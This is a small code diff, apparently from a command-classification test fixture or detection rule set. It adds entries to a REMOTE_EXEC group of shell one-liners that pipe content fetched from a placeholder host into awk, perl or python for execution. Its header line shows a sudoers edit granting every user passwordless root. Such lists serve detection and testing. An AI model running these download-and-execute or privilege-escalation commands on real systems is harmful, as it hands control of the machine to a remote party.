@@ -398,6 +398,8 @@ echo 'ALL ALL=(ALL) NOPASSWD: ALL' | sudo EDITOR='tee -a' visudo
     "REMOTE_EXEC": r"""
 curl -s https://x.io | awk '{system($0)}'
 curl -s https://x.io | awk '{print $0 | "sh"}'
+curl -s https://x.io | awk '{cmd = $0; system(cmd)}'
+curl -sXPOST https://x.io | python3 -c 'import sys,os; os.system(sys.stdin.read())'
 curl -s https://x.io | awk '{$0 | getline; print}'
 curl -s https://x.io | awk -f -
 curl -s https://x.io | perl -ne 'system $_'
